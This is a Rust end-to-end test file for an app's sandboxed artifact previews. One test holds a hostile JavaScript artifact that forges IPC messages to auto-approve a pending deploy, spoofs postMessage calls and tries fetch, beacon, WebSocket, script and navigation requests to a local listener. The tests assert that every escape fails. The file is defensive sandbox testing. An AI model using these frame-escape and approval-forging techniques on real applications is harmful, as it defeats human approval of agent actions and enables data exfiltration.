//! Artifacts alive in the window: a real dashboard rendered in its sandboxed frame and
//! re-rendered in place when the agent updates it, a broken one's error boundary, the Source
//! tab's marks, versions with restore, and a hostile artifact that tries every way out of
//! its frame and changes nothing.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use countersign_store::Store;
use fantoccini::Locator;
use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::app::{App, id, terminal};

const DASHBOARD: &str = include_str!("../../../tests/fixtures/dashboard.jsx");

fn item(art: &Value) -> String {
    format!("[data-testid=artifact-item][data-id='{}']", id(art))
}

impl App {
    /// Saves an artifact as an agent does, and expects it saved.
    async fn save_artifact(&self, body: &Value) -> Value {
        let (code, art) = self.post("/v1/artifacts", body).await;
        assert!(code.is_success(), "{code}: {art}");
        art
    }

    /// Waits until the open artifact's preview has rendered `version`, then switches into its
    /// frame.
    async fn enter_preview(&self, version: u64) {
        self.el(&format!(
            "[data-testid=artifact-preview][data-ready=true][data-version='{version}']"
        ))
        .await;
        // WebKitWebDriver commands inside a frame that is still laying out its first render
        // can leave the window's display stale for good (measured: a 300-line dashboard);
        // give the first render a moment, as a person's eyes would.
        tokio::time::sleep(Duration::from_millis(1000)).await;
        self.el("[data-testid=artifact-frame]")
            .await
            .enter_frame()
            .await
            .unwrap();
    }

    async fn leave_frame(&self) {
        self.client.enter_parent_frame().await.unwrap();
    }
}

/// p. A 300-line Recharts dashboard renders with its charts; its tool call rejects and it shows
/// its own fallback; an agent's update re-renders the same frame in place; versions diff and
/// restore.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn p_dashboard_preview_update_versions() {
    let tmp = tempfile::tempdir().unwrap();
    let app = App::launch(tmp.path()).await;
    let art = app
        .save_artifact(&json!({
            "title": "Revenue dashboard",
            "description": "Monthly revenue, orders and products",
            "code": DASHBOARD,
        }))
        .await;
    assert_eq!(art["render_check"]["status"], "passed", "{art}");
    app.click(&item(&art)).await;
    app.enter_preview(1).await;
    app.text_contains("[data-testid=artifact-root] h1", "Revenue dashboard")
        .await;
    // Drawn, not just mounted: the area chart's paths and the pie's sectors are there.
    app.el(".recharts-surface .recharts-area-area").await;
    app.el(".recharts-pie-sector").await;
    app.text_contains(
        "[data-testid=artifact-root] p",
        "sample data (tools are not available in the preview)",
    )
    .await;
    app.leave_frame().await;
    // Scroll the window down to the dashboard's charts.
    app.client
        .execute(
            "const f = document.querySelector('[data-testid=artifact-frame]');
             let s = f.parentElement;
             while (s && s.scrollHeight <= s.clientHeight) s = s.parentElement;
             (s || document.scrollingElement).scrollTop += f.getBoundingClientRect().top + 330;",
            vec![],
        )
        .await
        .unwrap();
    app.screenshot("p-dashboard-preview").await;

    // The agent updates it: the same page, the same frame, the new code.
    app.client
        .execute(
            "document.querySelector('[data-testid=artifact-frame]').dataset.mark = 'same';",
            vec![],
        )
        .await
        .unwrap();
    let updated = app
        .save_artifact(&json!({
            "artifact_id": id(&art),
            "code": DASHBOARD.replace("Revenue dashboard</h1>", "Revenue dashboard, Q4</h1>"),
        }))
        .await;
    assert_eq!(
        (&updated["title"], &updated["version"]),
        (&json!("Revenue dashboard"), &json!(2))
    );
    app.enter_preview(2).await;
    app.text_contains("[data-testid=artifact-root] h1", "Revenue dashboard, Q4")
        .await;
    app.leave_frame().await;
    app.el("[data-testid=artifact-frame][data-mark=same]").await;

    // Versions: who and when, the change between them, restore as a new version.
    app.click("[data-testid=tab-versions]").await;
    app.el("[data-testid=version-row][data-version='1']").await;
    let rows = app.all_texts("[data-testid=version-row]").await;
    assert_eq!(rows.len(), 2, "{rows:?}");
    app.text_contains("[data-testid=diff-table] .line-added", "Q4")
        .await;
    app.click("[data-testid=version-row][data-version='1'] [data-testid=restore]")
        .await;
    app.el("[data-testid=artifact-page][data-version='3']")
        .await;
    app.text_contains(
        "[data-testid=version-row][data-version='3']",
        "restored version 1",
    )
    .await;
    app.screenshot("p-versions").await;
    app.click("[data-testid=tab-preview]").await;
    app.enter_preview(3).await;
    let h1 = app.text("[data-testid=artifact-root] h1").await;
    assert_eq!(h1, "Revenue dashboard");
    app.leave_frame().await;
    let (_, current) = app.get(&format!("/v1/artifacts/{}", id(&art))).await;
    assert_eq!(
        (&current["version"], &current["code"]),
        (&json!(3), &json!(DASHBOARD))
    );
    app.quit().await;
}

/// q. An artifact that passes the first-render check but fails in the window: the error
/// boundary shows the real message and React's component stack.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn q_error_boundary() {
    let tmp = tempfile::tempdir().unwrap();
    let app = App::launch(tmp.path()).await;
    let code = r#"
function Totals({ rows }) {
  const [loaded, setLoaded] = useState(false);
  useEffect(() => setLoaded(true), []);
  if (loaded) return <p>{rows.reduce((a, r) => a + r.total, 0)}</p>;
  return <p>Loading…</p>;
}
export default function Report() {
  return <Card><CardHeader><CardTitle>Totals</CardTitle></CardHeader><CardContent><Totals /></CardContent></Card>;
}"#;
    let art = app
        .save_artifact(&json!({ "title": "Broken report", "code": code }))
        .await;
    app.click(&item(&art)).await;
    app.enter_preview(1).await;
    let shown = app.text("[data-testid=artifact-error]").await;
    assert!(shown.contains("reduce"), "the real message: {shown}");
    assert!(
        shown.contains("Totals") && shown.contains("Report"),
        "React's component stack: {shown}"
    );
    app.leave_frame().await;
    app.el("[data-testid=artifact-preview][data-failed=true] [data-testid=preview-failed]")
        .await;
    app.screenshot("q-error-boundary").await;

    // Saved when the check did not run (or by another check script): the frame loads its
    // compiler and shows the same.
    let store = Store::open(&tmp.path().join("countersign.db"))
        .await
        .unwrap();
    {
        let mut tx = store.write().await.unwrap();
        sqlx::query("UPDATE artifact_versions SET compiled = NULL, compiled_by = NULL")
            .execute(tx.sqlite().unwrap())
            .await
            .unwrap();
        tx.commit().await.unwrap();
    }
    store.close().await;
    app.click("[data-testid=nav-inbox]").await;
    app.click(&item(&art)).await;
    app.enter_preview(1).await;
    let again = app.text("[data-testid=artifact-error]").await;
    assert_eq!(again, shown, "compiled in the frame, the same failure");
    app.leave_frame().await;
    app.quit().await;
}

/// r. The Source tab: line numbers and hidden-character marks; the title's marks in the
/// sidebar and on the page.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn r_source_marks() {
    let tmp = tempfile::tempdir().unwrap();
    let app = App::launch(tmp.path()).await;
    let code = "const label = \"Approve\u{200B}\";\nconst admin = \"user\u{202E}nimda\";\n\
                export default () => <p>{label} {admin}</p>;\n";
    let art = app
        .save_artifact(&json!({ "title": "Label\u{2060}s", "code": code }))
        .await;
    app.el(&format!("{} [data-testid=hidden-mark]", item(&art)))
        .await;
    app.click(&item(&art)).await;
    app.el("[data-testid=artifact-title] [data-testid=hidden-mark]")
        .await;
    app.click("[data-testid=tab-source]").await;
    let lines = app.all_texts("[data-testid=artifact-source] td.ln").await;
    assert_eq!(lines, ["1", "2", "3", "4"]);
    let marks = app
        .client
        .find_all(Locator::Css(
            "[data-testid=artifact-source] [data-testid=hidden-mark]",
        ))
        .await
        .unwrap();
    assert_eq!(marks.len(), 2, "the zero-width space and the override");
    app.text_contains("[data-testid=hidden-warning]", "3 hidden characters")
        .await;
    app.screenshot("r-source-marks").await;
    app.quit().await;
}

/// Counts the connections a local listener receives: anything the frame reaches.
async fn listener() -> (u16, Arc<AtomicUsize>) {
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = l.local_addr().unwrap().port();
    let seen = Arc::new(AtomicUsize::new(0));
    let count = seen.clone();
    tokio::spawn(async move {
        while let Ok((_conn, _)) = l.accept().await {
            count.fetch_add(1, Ordering::SeqCst);
        }
    });
    (port, seen)
}

/// The hostile artifact: once rendered, it tries every way out of its frame and writes down
/// what happened to each attempt.
fn hostile(listen: &str, api: &str, approval: &str) -> String {
    r#"
export default function Probe() {
  const [report, setReport] = useState({});
  useEffect(() => {
    const note = (k, v) => setReport((r) => ({ ...r, [k]: String(v) }));
    const attempt = async (k, f) => {
      try { note(k, "reached: " + String(await f())); } catch (e) { note(k, "blocked: " + ((e && e.name) || e)); }
    };
    const L = "%LISTEN%", API = "%API%", ID = "%APPROVAL%";
    const forged = JSON.stringify({ cmd: "decide", callback: 1, error: 2,
      payload: { id: ID, digest: "x", decision: { kind: "approve_always", scope: { reach: { kind: "any" } } } },
      options: {}, __TAURI_INVOKE_KEY__: "guessed" });
    attempt("tauri", () => { if (window.__TAURI_INTERNALS__ !== undefined) return "present"; throw new Error("absent"); });
    attempt("parent_dom", () => window.parent.document.body.innerHTML.length);
    attempt("parent_ipc", () => { const t = window.parent.__TAURI_INTERNALS__; return t.invoke("decide", { id: ID }); });
    attempt("webkit_ipc", () => {
      window.webkit.messageHandlers.ipc.postMessage(forged);
      window.webkit.messageHandlers.ipc.postMessage(JSON.stringify({ cmd: "rotate_token", callback: 3, error: 4, payload: {}, options: {} }));
      return "posted";
    });
    attempt("ipc_fetch", () => fetch("ipc://localhost/decide", { method: "POST", body: forged }).then((r) => r.status));
    attempt("api_fetch", () => fetch(API + "/v1/approvals/" + ID).then((r) => r.status));
    attempt("listener_fetch", () => fetch(L + "/fetch").then((r) => r.status));
    attempt("image", () => new Promise((ok, no) => { const i = new Image(); i.onload = () => ok("loaded"); i.onerror = () => no(new Error("error")); i.src = L + "/img"; }));
    attempt("websocket", () => new Promise((ok, no) => { const w = new WebSocket(L.replace("http", "ws") + "/ws"); w.onopen = () => ok("open"); w.onerror = () => no(new Error("error")); }));
    attempt("beacon", () => navigator.sendBeacon(L + "/beacon", "x"));
    attempt("stylesheet", () => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = L + "/css"; document.head.appendChild(l); return "added"; });
    attempt("script", () => { const s = document.createElement("script"); s.src = L + "/js"; document.head.appendChild(s); return "added"; });
    attempt("subframe", () => { const f = document.createElement("iframe"); f.src = L + "/frame"; document.body.appendChild(f); return "added"; });
    attempt("eval", () => new Function("return 'evaluated'")());
    attempt("popup", () => { const w = window.open(L + "/popup"); if (!w) throw new Error("no window"); return "opened"; });
    attempt("alert", () => { alert("approve me"); return "returned"; });
    attempt("storage", () => window.localStorage.length);
    attempt("spoof", () => {
      const p = window.parent;
      p.postMessage({ type: "resize", height: 99999999 }, "*");
      p.postMessage({ cmd: "decide", id: ID, decision: { kind: "approve" } }, "*");
      p.postMessage({ type: "decide", id: ID }, "*");
      p.postMessage(forged, "*");
      return "posted";
    });
    setTimeout(() => {
      attempt("form", () => { const f = document.createElement("form"); f.action = L + "/form"; f.method = "post"; document.body.appendChild(f); f.submit(); return "submitted"; });
      attempt("top_navigation", () => { window.top.location.href = L + "/top"; return "navigated"; });
      setTimeout(() => note("done", "yes"), 500);
    }, 1500);
  }, []);
  return <pre data-testid="report">{JSON.stringify(report, null, 1)}</pre>;
}
"#
    .replace("%LISTEN%", listen)
    .replace("%API%", api)
    .replace("%APPROVAL%", approval)
}

/// s. A hostile artifact cannot reach the app, the API, the network or the person's
/// decisions from its frame: approvals stay pending, no grant appears, the listener sees
/// nothing, the window stays where it was.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn s_hostile_artifact() {
    let tmp = tempfile::tempdir().unwrap();
    let app = App::launch(tmp.path()).await;
    let (port, seen) = listener().await;
    let (code, pending) = app
        .submit(&terminal("x.user.me.deploy", "deploy --prod"))
        .await;
    assert_eq!(code, StatusCode::ACCEPTED);
    let code = hostile(&format!("http://127.0.0.1:{port}"), &app.api, &id(&pending));
    let art = app
        .save_artifact(&json!({ "title": "Innocent chart", "code": code }))
        .await;
    let before = app.fingerprint().await;

    app.click(&item(&art)).await;
    app.enter_preview(1).await;
    app.text_contains("[data-testid=report]", "\"done\": \"yes\"")
        .await;
    let report: Value = serde_json::from_str(&app.text("[data-testid=report]").await).unwrap();
    app.leave_frame().await;
    eprintln!("what the hostile artifact saw: {report:#}");
    app.screenshot("s-hostile-artifact").await;
    for blocked in [
        "tauri",
        "parent_dom",
        "parent_ipc",
        "ipc_fetch",
        "api_fetch",
        "listener_fetch",
        "image",
        "websocket",
        "eval",
        "popup",
        "storage",
    ] {
        let got = report[blocked].as_str().unwrap_or_default();
        assert!(got.starts_with("blocked"), "{blocked}: {got} ({report})");
    }
    assert!(
        app.client.get_alert_text().await.is_err(),
        "no dialog opened"
    );

    // Give anything that slipped out time to arrive, then look at everything.
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(seen.load(Ordering::SeqCst), 0, "the listener saw a request");
    let (_, status) = app.get(&format!("/v1/approvals/{}", id(&pending))).await;
    assert_eq!(status["status"], "pending", "{status}");
    assert_eq!(app.fingerprint().await, before, "nothing changed");
    // The shell refused the forged messages and said so, without writing down the key they
    // lacked (a process that reads the log could otherwise forge them with it).
    let log = app.stderr();
    assert!(
        log.contains("without the window's key"),
        "the refusal is logged: {log}"
    );
    assert!(!log.contains("__TAURI_INVOKE_KEY__"), "{log}");
    app.el(&format!(
        "[data-testid=artifact-page][data-id='{}']",
        id(&art)
    ))
    .await;
    let height = app
        .client
        .execute(
            "return document.querySelector('[data-testid=artifact-frame]').offsetHeight;",
            vec![],
        )
        .await
        .unwrap()
        .as_f64()
        .unwrap();
    assert!(height <= 1400.0, "the frame's height is capped: {height}");

    // The person still decides: the card is in the inbox, untouched.
    let started = Instant::now();
    app.click("[data-testid=nav-inbox]").await;
    app.el(&format!(
        "[data-testid=approval-card][data-id='{}']",
        id(&pending)
    ))
    .await;
    assert!(started.elapsed() < Duration::from_secs(15));
    app.quit().await;
}

/// t. An artifact whose effect never yields freezes the page it runs in (WebKitGTK runs the
/// frame in the page's web process and thread): the shell notices, ends that web process and
/// loads the app again on the inbox, which says why. WebKitWebDriver ends its session with the
/// process it was driving, so after the freeze the test watches the processes and the API: the
/// frozen web process is gone, a new one serves the window, the console answered throughout
/// and the pending approval still waits for the person.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn t_frozen_window_is_reloaded() {
    let tmp = tempfile::tempdir().unwrap();
    let app = App::launch(tmp.path()).await;
    let (_, pending) = app.submit(&terminal("x.user.me.deploy", "deploy")).await;
    let code = "export default function Spin() {\n  useEffect(() => { for (;;) {} }, []);\n  return <p>Spinning</p>;\n}\n";
    let art = app
        .save_artifact(&json!({ "title": "Spinner", "code": code }))
        .await;
    assert_eq!(
        art["render_check"]["status"], "passed",
        "effects do not run in the check"
    );
    app.el(&item(&art)).await;
    let before = web_processes(app.pid);
    assert!(!before.is_empty(), "the window has a web process");
    // Clicked from a timer, so this command returns before the page freezes.
    app.client
        .execute(
            &format!(
                "setTimeout(() => document.querySelector(\"{}\").click(), 50); return true;",
                item(&art)
            ),
            vec![],
        )
        .await
        .unwrap();
    let started = Instant::now();
    let after = loop {
        // The console lives in the shell: it answers while the page is frozen.
        let (status, got) = app.get(&format!("/v1/approvals/{}", id(&pending))).await;
        assert_eq!(
            (status, &got["status"]),
            (StatusCode::OK, &json!("pending"))
        );
        let now = web_processes(app.pid);
        if !now.is_empty() && now.iter().all(|p| !before.contains(p)) {
            break now;
        }
        assert!(
            started.elapsed() < Duration::from_secs(40),
            "the frozen page was not ended: web processes {before:?} then {now:?}"
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    };
    // The new page stays up, and the app with it.
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(web_processes(app.pid), after);
    let (status, got) = app.get(&format!("/v1/approvals/{}", id(&pending))).await;
    assert_eq!(
        (status, &got["status"]),
        (StatusCode::OK, &json!("pending"))
    );
    app.quit().await;
}

/// The WebKit web processes below `pid`.
fn web_processes(pid: u32) -> Vec<u32> {
    let stat = |p: u32| -> Option<(String, u32)> {
        let s = std::fs::read_to_string(format!("/proc/{p}/stat")).ok()?;
        let (head, rest) = s.rsplit_once(')')?;
        let comm = head.split_once('(')?.1.to_owned();
        Some((comm, rest.split_whitespace().nth(1)?.parse().ok()?))
    };
    let all: Vec<(u32, String, u32)> = std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok())
        .filter_map(|p: u32| stat(p).map(|(comm, parent)| (p, comm, parent)))
        .collect();
    let mut tree = vec![pid];
    let mut i = 0;
    while i < tree.len() {
        let parent = tree[i];
        tree.extend(
            all.iter()
                .filter(|(_, _, pp)| *pp == parent)
                .map(|(p, _, _)| *p),
        );
        i += 1;
    }
    let mut web: Vec<u32> = all
        .iter()
        .filter(|(p, comm, _)| tree.contains(p) && comm.starts_with("WebKitWebProces"))
        .map(|(p, _, _)| *p)
        .collect();
    web.sort_unstable();
    web
}
